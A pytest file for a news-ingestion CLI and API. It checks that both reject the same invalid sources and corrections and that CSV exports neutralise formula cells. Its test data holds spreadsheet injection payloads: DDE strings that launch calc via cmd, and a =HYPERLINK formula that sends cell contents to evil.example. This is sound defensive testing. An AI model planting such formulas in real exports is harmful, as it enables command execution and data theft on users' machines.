"""One validation for the CLI and the API: a value one of them refuses, the other refuses too, with the
field and the reason; what the contract allows, both accept. And CSV cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from services.bus.settings import Settings
from services.cli import cli
from services.store.api.main import create_api
from services.store.settings import StoreSettings
from tests.conftest import engine
from tests.integration.test_ingest import AZ, CANCER, FM6SS, candidate, event, ingest
from tests.servers import REDIS_SERVER

runner = CliRunner()
TOKEN = "operator-token-for-tests-0123"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
FORMULA_KIND = "=cmd|' /C calc'!A0"


@pytest.fixture
def store(env, db_url: str) -> str:
    """The CLI and the API on one database holding one agreement (id 1)."""
    env.setenv("FM6SS_DATABASE_URL", db_url)
    ingest(
        db_url,
        event(
            "https://lematin.ma/convention-az",
            CANCER * 3,
            candidate(FM6SS, AZ, signed_on=date(2024, 3, 15), precision="day", themes=("cancer",)),
            published=date(2024, 3, 16),
        ),
    )
    return db_url


def api(db_url: str) -> TestClient:
    app = create_api(Settings(), engine(db_url), StoreSettings(api_token=TOKEN))
    return TestClient(app, raise_server_exceptions=False)


def fm6ss(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


def exported(kind: str = "agreements") -> list[dict]:
    code, out, err = fm6ss("export", kind)
    assert code == 0, err
    return [json.loads(line) for line in out.splitlines()]


def test_a_source_the_api_refuses_the_cli_refuses(store):
    client = api(store)
    refused = [
        ("x", "notaurl", []),
        ("x", "https://", []),
        ("x", "http://[::1/feed", []),
        ("x", "https://lematin.ma/rss", ["--lang", "français-marocain"]),
        ("x", "https://lematin.ma/rss", ["--outlet", "ل" * 201]),
        ("x", "https://lematin.ma/", ["--kind", "listing"]),  # a listing needs its link pattern
        ("x", "https://lematin.ma/", ["--kind", "listing", "--link-pattern", "(unclosed"]),
    ]
    for name, url, options in refused:
        code, _, err = fm6ss("sources", "add", name, url, *options)
        assert code == 1 and err.startswith("Error: "), (url, options, err)
        assert len(err.strip().splitlines()) == 1, err
        body = {"name": name, "url": url, "kind": "rss"}
        for flag, value in zip(options[::2], options[1::2], strict=True):
            body[flag.removeprefix("--").replace("-", "_")] = value
        answer = client.put(f"/sources/{name}", json=body, headers=AUTH)
        assert answer.status_code == 422, (body, answer.text)
    assert fm6ss("sources", "add", "x", "notaurl")[2].strip() == "Error: url: not an http(s) URL"
    code, out, _ = fm6ss("sources", "list")
    assert code == 0 and "x " not in out
    assert client.get("/sources").json() == []


def test_sources_remove_by_cli_and_api(store):
    client = api(store)
    assert fm6ss("sources", "add", "assabah", "https://assabah.ma/feed", "--lang", "ar")[0] == 0
    assert fm6ss("sources", "add", "lematin", "https://lematin.ma/rss", "--lang", "fr")[0] == 0
    code, _, err = fm6ss("sources", "remove", "assabah")
    assert code == 0 and "removed" in err
    code, _, err = fm6ss("sources", "remove", "assabah")
    assert code == 1 and err.strip() == "Error: no source named 'assabah'"
    assert [s["name"] for s in client.get("/sources").json()] == ["lematin"]
    assert client.delete("/sources/lematin").status_code == 401
    assert client.delete("/sources/lematin", headers=AUTH).status_code == 204
    assert client.delete("/sources/lematin", headers=AUTH).status_code == 404
    assert client.get("/sources").json() == []


@pytest.mark.parametrize(
    ("field", "value", "json_value"),
    [
        ("signed_on_precision", "week", "week"),
        ("kind", "banana", "banana"),
        ("kind", FORMULA_KIND, FORMULA_KIND),
        ("signed_on", "2025-13", "2025-13"),
        ("signed_on", "15/03/2024", "15/03/2024"),
        ("themes", "a" * 61, ["a" * 61]),
        ("themes", "oncologie|cancer", ["oncologie|cancer"]),
        ("place", "R" * 201, "R" * 201),
    ],
)
def test_a_correction_the_api_refuses_the_cli_refuses(store, field, value, json_value):
    before = exported()
    code, _, err = fm6ss("agreements", "correct", "1", "--field", field, "--value", value)
    assert code == 1 and err.startswith(f"Error: {field}"), err
    assert len(err.strip().splitlines()) == 1, err
    assert api(store).patch("/agreements/1", json={field: json_value}, headers=AUTH).status_code == 422
    assert exported() == before


def test_a_date_to_the_month_is_accepted_by_both_with_its_precision(store):
    code, _, err = fm6ss("agreements", "correct", "1", "--field", "signed_on", "--value", "2025-04")
    assert code == 0, err
    (record,) = exported()
    assert (record["signed_on"], record["signed_on_precision"]) == ("2025-04", "month")
    answer = api(store).patch("/agreements/1", json={"signed_on": "2024"}, headers=AUTH)
    assert answer.status_code == 200, answer.text
    assert (answer.json()["signed_on"], answer.json()["signed_on_precision"]) == ("2024", "year")
    day = {"signed_on": "2024-03-15", "signed_on_precision": None}
    answer = api(store).patch("/agreements/1", json=day, headers=AUTH)
    assert (answer.json()["signed_on"], answer.json()["signed_on_precision"]) == ("2024-03-15", "day")
    # a day's precision needs a day
    both = {"signed_on": "2025-04", "signed_on_precision": "day"}
    assert api(store).patch("/agreements/1", json=both, headers=AUTH).status_code == 422
    assert fm6ss("agreements", "correct", "1", "--field", "kind", "--value", "memorandum")[0] == 0
    assert exported()[0]["kind"] == "memorandum"


def test_health_names_an_unknown_queue(env):
    env.setenv("FM6SS_BROKER_URL", f"{REDIS_SERVER}/12")
    code, _, err = fm6ss("health", "--queues", "crawler,bogus")
    assert code == 1 and "'bogus'" in err and err.startswith("Error: "), err
    code, _, err = fm6ss("worker", "--queues", "bogus")
    assert code == 1 and "'bogus'" in err, err


def test_an_impossible_publication_date_is_a_skipped_line(env, tmp_path):
    path = tmp_path / "in.jsonl"
    good = {"url": "https://x.ma/a", "text": CANCER * 3, "published": "2025-02-28"}
    path.write_text(
        json.dumps({**good, "url": "https://x.ma/b", "published": "2025-13-01"})
        + "\n"
        + json.dumps(good)
        + "\n"
    )
    code, _, err = fm6ss("import", str(path), "--no-progress")
    assert code == 1
    assert "line 1: skipped: published: " in err
    assert [a["url"] for a in exported("articles")] == ["https://x.ma/a"]


def test_csv_cells_a_spreadsheet_would_run_are_text(store, tmp_path):
    lines = [
        {
            "url": "https://evil.example/a",
            "text": CANCER * 3,
            "title": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")',
            "outlet": "@SUM(1+1)*cmd|' /C calc'!A0",
        },
        {"url": "https://evil.example/b", "text": CANCER * 4, "title": "+33 612", "outlet": "-2+3"},
        {"url": "https://evil.example/c", "text": CANCER * 5, "title": "-إعلان", "outlet": "=1+1"},
    ]
    path = tmp_path / "in.jsonl"
    path.write_text("".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines))
    assert fm6ss("import", str(path), "--no-progress")[0] == 0
    assert fm6ss("agreements", "correct", "1", "--field", "place", "--value", "=1+2")[0] == 0
    assert fm6ss("agreements", "correct", "1", "--field", "event", "--value", "\tGITEX")[0] == 0
    out = tmp_path / "articles.csv"
    code, _, err = fm6ss("export", "articles", "--format", "csv", "-o", str(out))
    assert code == 0, err
    rows = {r["url"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))}
    titles = {r["title"] for r in rows.values() if r["url"].startswith("https://evil")}
    outlets = {r["outlet"] for r in rows.values() if r["url"].startswith("https://evil")}
    assert titles == {"'" + x["title"] for x in lines}
    assert outlets == {"'" + x["outlet"] for x in lines}
    code, text, _ = fm6ss("export", "agreements", "--format", "csv")
    (agreement,) = csv.DictReader(io.StringIO(text))
    assert (agreement["place"], agreement["event"]) == ("'=1+2", "'\tGITEX")
    for cell in [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8") + text)) for c in row]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
